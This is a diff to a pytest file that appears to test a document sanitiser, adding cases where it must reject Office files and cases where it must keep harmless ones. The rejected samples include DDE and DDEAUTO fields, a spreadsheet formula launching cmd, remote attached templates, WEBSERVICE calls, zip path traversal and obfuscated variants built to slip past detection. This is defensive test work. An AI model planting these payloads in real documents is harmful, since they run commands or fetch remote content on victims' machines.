@@ -96,13 +96,26 @@ def test_a_file_that_is_too_large_says_how_large_it_may_be(given: Any, monkeypat
 
 
 REL = b'<Relationship Id="r" Type="http://x/%s" Target="https://elsewhere.example/" TargetMode="External"/>'
+TEMPLATE = b'Type="http://x/attachedTemplate" Target="https://elsewhere.example/hyperlink/t.dotm"'
+RELS = "word/_rels/settings.xml.rels"
+FIELD = (
+    b'<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE</w:instrText><w:instrText>AUTO c:</w:instrText>'
+    b'<w:fldChar w:fldCharType="end"/></w:r>'
+)
+
+
+def sheet(formula: bytes) -> dict[str, bytes]:
+    return {"xl/worksheets/sheet1.xml": b"<worksheet><c><f>%s</f></c></worksheet>" % formula}
 
 
 @pytest.mark.parametrize(
     ("entries", "code"),
     [
         ({"word/vbaProject.bin": b"x"}, "macros"),
-        ({"[Content_Types].xml": b"<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>"}, "macros"),
+        (
+            {"[Content_Types].xml": files.TYPES[:-2] + b'><Default ContentType="x.macroEnabled.main+xml"/></Types>'},
+            "macros",
+        ),
         ({"word/activeX/activeX1.xml": b"<x/>"}, "macros"),
         ({"xl/macrosheets/sheet1.xml": b"<x/>"}, "macros"),
         ({"Basic/Standard/Module1.xml": b"<x/>"}, "macros"),
@@ -113,6 +126,27 @@ REL = b'<Relationship Id="r" Type="http://x/%s" Target="https://elsewhere.exampl
         ({"word/_rels/settings.xml.rels": REL % b"attachedTemplate"}, "fetches"),
         ({"word/document.xml": b"<w:instrText>DDEAUTO c:\\windows</w:instrText>"}, "fetches"),
         ({"../../etc/cron.d/x": b"x"}, "broken"),
+        ({RELS: b'<Relationship %s TargetMode="External"/>' % TEMPLATE}, "fetches"),
+        ({RELS: b'<p:Relationship xmlns:p="x" %s TargetMode="External"/>' % TEMPLATE}, "fetches"),
+        ({RELS: b'<Relationship %s TargetMode="&#69;xternal"/>' % TEMPLATE}, "fetches"),
+        ({RELS: b"<Relationship %s/>" % TEMPLATE}, "fetches"),
+        ({RELS: ('<?xml version="1.0"?>' + (REL % b"attachedTemplate").decode()).encode("utf-16")}, "fetches"),
+        ({RELS: b"<Relationship"}, "broken"),
+        ({"word/other.dat": b"<r>%s</r>" % (REL % b"image")}, "fetches"),
+        ({"word/_rels/document.xml.rels": b'<Relationship Type="http://x/aFChunk" Target="other.html"/>'}, "fetches"),
+        ({"word/_rels/document.xml.rels": b'<Relationship Type="http://x/vbaProject" Target="a.bin"/>'}, "macros"),
+        ({"[Content_Types].xml": b'<Types><Override ContentType="x.&#118;baProject"/></Types>'}, "macros"),
+        ({"word/document.xml": b'<w:fldSimple w:instr="DDEAUTO c:\\windows"/>'}, "fetches"),
+        ({"word/document.xml": FIELD}, "fetches"),
+        ({"word/document.xml": b"<x:instrText>DD<!-- -->E&#65;UTO c:</x:instrText>"}, "fetches"),
+        ({"word/document.xml": b"<w:fldSimple w:instr=' INCLUDEPICTURE \"https://elsewhere.example/p\"'/>"}, "fetches"),
+        ({"word/document.xml": b'<draw:image x:href="https://elsewhere.example/p"/>'}, "fetches"),
+        (sheet(b'_xlfn.WEBSERVICE("https://elsewhere.example/"&amp;A1)'), "fetches"),
+        (sheet(b'_xlfn.IMAGE("https://elsewhere.example/"&amp;A1)'), "fetches"),
+        (sheet(b"cmd|' /C calc'!A0"), "fetches"),
+        (sheet(b"'https://elsewhere.example/[other.xlsx]Sheet1'!A1"), "fetches"),
+        ({"xl/workbook.xml": b"<workbook><definedName>RTD(A1)</definedName></workbook>"}, "fetches"),
+        ({"word/document.xml/[0].piece": b"x"}, "broken"),
     ],
 )
 def test_an_office_file_that_acts_fetches_or_holds_another_is_refused(
@@ -129,6 +163,24 @@ def test_an_office_file_keeps_its_words_and_web_links_and_loses_its_author(given
         assert package.read("word/document.xml") == files.WORD["word/document.xml"]
         assert not any(b"Planted" in package.read(name) for name in package.namelist())
         assert {entry.date_time[0] for entry in package.infolist()} == {1980}
+
+
+@pytest.mark.parametrize(
+    "entries",
+    [
+        {"word/document.xml": b'<w:p><w:fldSimple w:instr=" HYPERLINK &quot;https://www.gov.uk/hidden&quot; "/></w:p>'},
+        {"word/document.xml": b"<w:instrText> PAGE </w:instrText>"},
+        {"word/document.xml": b"<m:f><m:num><m:r><m:t>a|b</m:t></m:r></m:num></m:f>"},
+        {"word/document.xml": b'<v:imagedata r:id="rId4" src="media/image1.png"/>'},
+        {"content.xml": b'<o><text:a xlink:href="https://www.gov.uk/"/><draw:image xlink:href="Pictures/1.png"/></o>'},
+        {"word/_rels/document.xml.rels": b'<Relationship Type="http://x/image" Target="../media/image1.png"/>'},
+        {"Configurations2/accelerator/current.xml": b""},
+        {"xl/drawings/vmlDrawing1.vml": b"<xml><v:shape>a<br></v:shape></xml>"},
+        sheet(b"IF('A|B'!C1&gt;1,\"WEBSERVICE(|)\",SUM(Table1[a|b],'It''s'!D4))"),
+    ],
+)
+def test_an_office_file_that_does_nothing_by_itself_is_kept(given: Any, entries: dict[str, bytes]) -> None:
+    assert made_safe("docx", given(files.package(entries)))
 
 
 def test_a_pdf_loses_what_acts_and_keeps_its_page_and_web_link(given: Any) -> None:
